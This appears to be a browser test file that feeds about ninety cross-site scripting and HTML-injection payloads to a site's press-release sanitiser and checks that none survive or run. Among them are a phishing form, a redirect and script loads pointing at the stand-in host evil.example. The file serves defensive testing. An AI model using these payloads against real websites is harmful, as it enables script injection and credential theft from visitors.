import { expect, test } from '#tests/browser/support/test.ts';
import type { Page } from '#tests/browser/support/test.ts';

/**
 * HTML from outside, in a real browser: only there do parser, sanitiser and content policy act as they do for a visitor.
 * Each text is a press release of its own, so that one page shows them all, each in its box.
 */
const hostile = [
  ['a script', '<script>ran()</script>'],
  ['a script of another site', '<script src="https://evil.example/x.js"></script>'],
  ['a script in odd spelling', '<ScRiPt/x>ran()</sCrIpT >'],
  ['a script cut in two', '<scr<script>ipt>ran()</scr</script>ipt>'],
  ['a picture’s error handler', '<img src="x" onerror="ran()">'],
  ['a handler without quotes or space', '<img src="/x.svg"onerror=ran()>'],
  ['a handler behind a slash', '<img/src="/x.svg"/onload=ran()>'],
  ['a focus handler that focuses itself', '<a href="/x" autofocus onfocus="ran()">x</a>'],
  ['a pointer handler', '<p onpointerenter="ran()">x</p>'],
  ['a toggle handler', '<details open ontoggle="ran()"><summary>x</summary></details>'],
  ['an animation handler', '<svg><animate onbegin="ran()" attributeName="x"></animate></svg>'],
  ['a drawing with a script', '<svg><script>ran()</script></svg>'],
  [
    'a drawing with foreign HTML',
    '<svg><foreignObject><iframe src="//evil.example"></iframe></foreignObject></svg>',
  ],
  [
    'a formula that hides HTML',
    '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
  ],
  ['a comment that ends early', '<!--><img src=x onerror=ran()>-->'],
  ['an attribute that ends early', '<p title="</p><img src=x onerror=ran()>">x</p>'],
  ['a noscript that ends early', '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>'],
  ['a template', '<template><img src=x onerror=ran()></template>'],
  ['a link that runs', '<a href="javascript:ran()">x</a>'],
  ['a link that runs, in disguise', '<a href=" jAva&#x09;script:ran()">x</a>'],
  ['a link to data', '<a href="data:text/html,<script>ran()</script>">x</a>'],
  ['a link to a file made here', '<a href="blob:https://lintel.test/1">x</a>'],
  ['a link without a scheme', '<a href="//evil.example/x">x</a>'],
  ['a link with a backslash', '<a href="/\\evil.example">x</a>'],
  ['an insecure link', '<a href="http://evil.example/">x</a>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with its own text', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>'],
  ['an object', '<object data="https://evil.example/x"></object><embed src="x">'],
  ['a style sheet', '<style>body{display:none}</style>'],
  ['a style sheet of another site', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style that covers the page', '<p style="position:fixed;inset:0">x</p>'],
  ['a class of ours', '<p class="unseen">x</p>'],
  ['a class of ours behind a gray', '<p class="g4 unseen">x</p>'],
  ['grays that there are none of', '<p class="g37 g-1 g4unseen g04 G4">x</p>'],
  [
    'a phishing form',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  ],
  ['a button of another form', '<button form="search" formaction="https://evil.example">Go</button>'],
  ['a page that moves on', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['another base for links', '<base href="https://evil.example/">'],
  [
    'a name that hides a property',
    '<a id="location" name="location" href="/x">x</a><img name="cookie" src="/x.svg">',
  ],
  ['a form that hides the root', '<form id="root"><input name="attributes"></form>'],
  ['a picture that reports a click', '<a href="/x" ping="https://evil.example/">x</a>'],
  ['a picture of many sources', '<img src="/x.svg" srcset="https://evil.example/1x.png 2x">'],
  ['an old background', '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>'],
  ['a second main part', '<main><nav><header>x</header></nav></main>'],
  ['a role', '<p role="alert">x</p>'],
  ['an element that is another', '<p is="x-evil">x</p><x-evil>x</x-evil>'],
  [
    'a table that lets its content out',
    '<table><a href="/x"><svg><style><img src=x onerror=ran()></style></svg></a></table>',
  ],
  [
    'forms within each other',
    '<form><div></form><form><p><style></form><img src=x onerror=ran()></style></form>',
  ],
  [
    'a formula within a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  ],
  [
    'an annotation with HTML',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
  ],
  ['a drawing’s title with HTML', '<svg><title><img src=x onerror=ran()></title></svg>'],
  ['a drawing’s description with a script', '<svg><desc><script>ran()</script></desc></svg>'],
  [
    'a drawing that uses another',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"></use></svg>',
  ],
  [
    'a drawing that changes a link',
    '<svg><a><animate attributeName="href" values="javascript:ran()"/><text>x</text></a></svg>',
  ],
  ['a drawing that sets a handler', '<svg><set attributeName="onmouseover" to="ran()"></set></svg>'],
  ['a link by its old name', '<svg><a xlink:href="javascript:ran()"><text>x</text></a></svg>'],
  ['character data', '<svg><![CDATA[><img src=x onerror=ran()>]]></svg>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:ran()"?><?x <img src=x onerror=ran()>?>'],
  ['a declaration', '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=ran()>">]>&x;'],
  ['a text area that ends early', '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>'],
  ['a title that ends early', '<title><p title="</title><img src=x onerror=ran()>"></title>'],
  ['raw text that ends early', '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>'],
  ['a frame’s text that ends early', '<noembed><p title="</noembed><img src=x onerror=ran()>"></noembed>'],
  ['no frames that end early', '<noframes><p title="</noframes><img src=x onerror=ran()>"></noframes>'],
  ['a list of choices with a picture', '<select><option><img src=x onerror=ran()></option></select>'],
  [
    'a choice that can be styled',
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=ran()></select>',
  ],
  ['a shadow root', '<div><template shadowrootmode="open"><img src=x onerror=ran()></template></div>'],
  ['a template within a template', '<template><template><img src=x onerror=ran()></template></template>'],
  ['a picture by its old name', '<image src=x onerror=ran()>'],
  [
    'a film with a poster',
    '<video poster="javascript:ran()" onloadstart="ran()"><source onerror="ran()"></video>',
  ],
  ['a moving text', '<marquee onstart="ran()">x</marquee>'],
  ['a popover', '<p popover id="x" onbeforetoggle="ran()">x</p><button popovertarget="x">x</button>'],
  ['a command', '<button commandfor="content" command="show-modal">x</button>'],
  ['a dialog that is open', '<dialog open>x</dialog>'],
  ['an element to edit', '<p contenteditable onbeforeinput="ran()">x</p>'],
  ['an animation by style', '<p style="animation-name:x" onanimationstart="ran()">x</p>'],
  ['a style that asks elsewhere', '<p style="background:url(https://evil.example/x.png)">x</p>'],
  ['a style sheet that imports', '<style>@import "https://evil.example/x.css";</style>'],
  ['a link with a line break in it', '<a href="java&NewLine;script&colon;ran()">x</a>'],
  ['a link with a null in it', '<a href="java\u0000script:ran()">x</a>'],
  ['a link with a sign before it', '<a href="&#1;javascript:ran()">x</a>'],
  ['a link to Visual Basic', '<a href="vbscript:ran()">x</a>'],
  ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
  ['a handler in capitals', '<p ONMOUSEOVER="ran()">x</p>'],
  ['a handler behind a line break', '<p\nonpointerover\n=\nran()>x</p>'],
  ['a handler behind a sign', '<p \u000conpointerover=ran()>x</p>'],
  [
    'a name that hides a method',
    '<form><input name="attributes"><input name="getAttribute"><input name="nodeName"></form>',
  ],
  ['a name of the page’s own', '<p id="content" class="app" name="root">x</p>'],
  ['a hundred elements deep', `${'<div>'.repeat(100)}<img src=x onerror=ran()>${'</div>'.repeat(100)}`],
] as const;

const benign = [
  ['<p>Roof &amp; <b>wall</b>, <em>tested</em></p>', '<p>Roof &amp; <b>wall</b>, <em>tested</em></p>'],
  ['<ul><li>One</li><li>Two</li></ul>', '<ul><li>One</li><li>Two</li></ul>'],
  ['<p dir="rtl" lang="ar">لوح عزل</p>', '<p dir="rtl" lang="ar">لوح عزل</p>'],
  ['<a href="tel:+12185550140">Call</a>', '<a href="tel:+12185550140">Call</a>'],
  ['<a href="/company/31250">Profile</a>', '<a href="/company/31250">Profile</a>'],
  ['<p>3 < 4 && "x" > y</p>', '<p>3 &lt; 4 &amp;&amp; "x" &gt; y</p>'],
  ['<b>Unclosed <i>text', '<b>Unclosed <i>text</i></b>'],
  ['<h1>Warranty</h1>', '<h1 aria-level="3">Warranty</h1>'],
  ['<h4>Terms</h4>', '<h4 aria-level="4">Terms</h4>'],
  [
    '<table width="9000"><tbody><tr><td colspan="2">A</td></tr></tbody></table>',
    '<table><tbody><tr><td colspan="2">A</td></tr></tbody></table>',
  ],
  [
    '<table><tbody><tr class="g8"><td class="wide g36 app">A</td></tr></tbody></table>',
    '<table><tbody><tr class="g8"><td class="g36">A</td></tr></tbody></table>',
  ],
  ['<img src="/favicon.svg">', '<img src="/favicon.svg" loading="lazy" referrerpolicy="no-referrer" alt="">'],
  ['<img src="javascript:1" alt="gone">', ''],
  [
    '<a href="https://www.northfold.example/">Reps</a>',
    '<a href="https://www.northfold.example/" target="_blank" rel="noopener noreferrer nofollow">Reps</a>',
  ],
] as const;

/** Nothing that runs, styles, frames, asks, or takes a name of the page's own. */
const forbidden = [
  'script, style, iframe, frame, frameset, object, embed, applet, base, meta, link, template, noscript, portal',
  'form, input, button, select, option, textarea, label, dialog, audio, video, source, svg, math, canvas, marquee',
  'main, nav, header, footer, aside, [id], [name], [style], [tabindex], [autofocus], [contenteditable]',
  '[srcset], [srcdoc], [formaction], [ping], [popover], [slot], [is]:not([is=""]), [background], [role]',
].join(', ');

/** The manufacturer's page with these texts as its news, all unfolded; each text's box by its place in the list. */
async function unfolded(page: Page, texts: readonly string[]) {
  await page.route('**/api/lintel-alerts/news?*', (route) =>
    route.fulfill({
      json: texts.map((html, index) => ({
        id: index + 1,
        coid: 31250,
        company: 'Northfold Roofing Systems',
        companySlug: 'northfold-roofing-systems',
        title: `Release ${index + 1}`,
        summary: '',
        html,
        division: '07',
        sections: [],
        published_at: '2026-10-01',
      })),
    }),
  );
  // What the texts name is there: a picture that isn't would be an error in the console.
  await page.route('**/x.svg', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
  );
  // Not the address for which the build made a page: its news would be there already.
  await page.goto('/company/31250');
  const releases = page.getByRole('region', { name: 'News', exact: true }).locator('details');
  await expect(releases).toHaveCount(texts.length);
  await releases.evaluateAll((all) => all.forEach((one) => one.setAttribute('open', '')));
  const boxes = releases.locator('> div > div');
  await expect(boxes).toHaveCount(texts.length);
  return boxes;
}

test('hostile HTML does nothing: no script, no style, no frame, no form, no address of another kind', async ({
  page,
}) => {
  await page.addInitScript(() => {
    Reflect.set(globalThis, 'ran', () => Reflect.set(globalThis, 'hasRun', true));
  });
  const boxes = await unfolded(
    page,
    hostile.map(([, html]) => html),
  );
  const left = await boxes.evaluateAll(
    (all, selector) =>
      all.map((box) => {
        const elements = [...box.querySelectorAll('*')];
        const links = elements.flatMap((element) => [
          element.getAttribute('href'),
          element.getAttribute('src'),
        ]);
        return {
          elements: [...box.querySelectorAll(selector)].map((element) => element.outerHTML),
          // The grays of specifications alone may pass.
          classes: elements.flatMap((element) =>
            [...element.classList].filter((name) => !/^g(?:\d|[12]\d|3[0-6])$/.test(name)),
          ),
          handlers: elements.flatMap((element) =>
            element.getAttributeNames().filter((name) => /^on/i.test(name)),
          ),
          links: links.filter(
            (link) => link !== null && !/^(?:https:|mailto:|tel:|\/(?![/\\])|#)/.test(link),
          ),
        };
      }),
    forbidden,
  );
  for (const [index, [what]] of hostile.entries()) {
    expect(left[index], what).toEqual({ elements: [], classes: [], handlers: [], links: [] });
  }
  expect(await page.evaluate(() => 'hasRun' in globalThis)).toBe(false);
  await expect(page).toHaveTitle(/^Northfold Roofing Systems/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Northfold Roofing Systems');
});

test('benign HTML stays as the manufacturer wrote it', async ({ page, expected }) => {
  expected.failingRequest('/favicon.svg');
  const boxes = await unfolded(
    page,
    benign.map(([html]) => html),
  );
  const kept = await boxes.evaluateAll((all) => all.map((box) => box.innerHTML));
  expect(kept).toEqual(benign.map(([, html]) => html));
});
